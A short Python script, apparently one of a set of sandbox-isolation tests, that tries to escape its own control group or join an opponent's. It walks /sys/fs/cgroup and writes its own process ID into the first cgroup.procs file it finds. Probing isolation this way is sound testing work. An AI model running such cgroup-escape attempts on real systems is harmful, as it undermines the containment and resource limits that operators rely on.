"""Leaves its control group, or enters that of the opponent."""

import os
from pathlib import Path

from attack import attack


def attempt() -> object:
    for file in Path("/sys/fs/cgroup").rglob("cgroup.procs"):
        with file.open("a") as group:
            group.write(str(os.getpid()))
        return file
    raise OSError("there are no groups")


attack(attempt)
